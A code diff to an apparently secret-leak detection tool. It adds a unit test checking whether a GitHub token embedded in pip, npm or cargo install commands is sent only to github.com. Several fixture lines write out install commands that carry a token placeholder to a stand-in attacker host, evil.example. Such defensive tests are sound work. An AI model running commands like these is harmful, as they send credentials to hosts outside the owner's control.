@@ -14,6 +14,8 @@ use datafog_core::{
 };
 use datafog_policy::{Example, Interpreter};
 
+use crate::case::goes_home;
+
 /// The invented user's home.
 const HOME: &str = "/home/example";
 /// The invented installation.
@@ -141,10 +143,7 @@ impl Facts for ExampleFacts<'_> {
             .filter(|detector| detector.entity == finding.entity)
             .flat_map(|detector| detector.hosts);
         let homes: Vec<&str> = homes.copied().collect();
-        let content = self.action.invocation.content_of(finding);
-        let role = content.map_or("", |content| content.role.as_str());
-        let destinations = self.destinations();
-        !destinations.is_empty() && destinations.iter().all(|place| place.is_home_for(role, &homes))
+        goes_home(&self.action.invocation, finding, &homes, || self.destinations())
     }
 
     fn unscanned(&self) -> &[String] {
@@ -165,5 +164,60 @@ impl Facts for ExampleFacts<'_> {
 
     fn root(&self) -> &Path {
         Path::new(ROOT)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use datafog_core::{Channel, Confidence, Key, Severity, Span};
+
+    use super::*;
+
+    /// Whether a token at the mark `T` of a line goes to GitHub alone.
+    fn is_home(line: &[&str]) -> bool {
+        let world = Nothing { cwd: PROJECT.into() };
+        let argv: Vec<OsString> = line.iter().map(OsString::from).collect();
+        let mut invocation = datafog_shim::interpret(&argv, &world);
+        datafog_shim::resolve(&mut invocation, &world);
+        let at = line.iter().enumerate().find_map(|(index, word)| Some((index, word.find("TTT")?)));
+        let (argument, start) = at.unwrap();
+        let finding = Finding {
+            detector: "github".into(),
+            entity: "secret.github.token".into(),
+            channel: Channel::Argument(argument),
+            span: Span::at(start, 3),
+            confidence: Confidence::CERTAIN,
+            severity: Severity::High,
+            fingerprint: Key::from_bytes(&[1; 32]).unwrap().digest("x", [b"".as_slice()]),
+            preview: String::new(),
+        };
+        goes_home(&invocation, &finding, &["github.com"], || &invocation.destinations)
+    }
+
+    #[test]
+    fn a_secret_in_a_url_is_told_to_the_host_of_that_url() {
+        let home: &[&[&str]] = &[
+            &["pip", "install", "git+https://TTT@github.com/a/b"],
+            &["pip", "install", "-U", "git+https://x:TTT@github.com/a/b@v1#egg=b"],
+            &["pip", "install", "x @ git+https://TTT@github.com/a/b ; python_version > '3'"],
+            &["npm", "install", "git+https://TTT@github.com/a/b"],
+            &["cargo", "install", "--git", "https://TTT@github.com/a/b"],
+            &["env", "A=b", "pip", "install", "git+https://TTT@github.com/a/b"],
+        ];
+        let away: &[&[&str]] = &[
+            &["pip", "install", "git+https://TTT@evil.example/a/b"],
+            &["pip", "install", "x @ git+https://TTT@evil.example/github.com/b"],
+            &["pip", "install", "git+https://github.com/a/b", "-i", "https://TTT@evil.example/"],
+            &["pip", "install", "git+https://github.com/a/b", "TTT.example/x"],
+            &["npm", "install", "git+https://TTT@evil.example/a/b"],
+            &["cargo", "install", "--git", "https://TTT@evil.example/a/b"],
+            &["env", "-S", "pip install git+https://github.com/a/b TTT"],
+        ];
+        for line in home {
+            assert!(is_home(line), "{line:?}");
+        }
+        for line in away {
+            assert!(!is_home(line), "{line:?}");
+        }
     }
 }
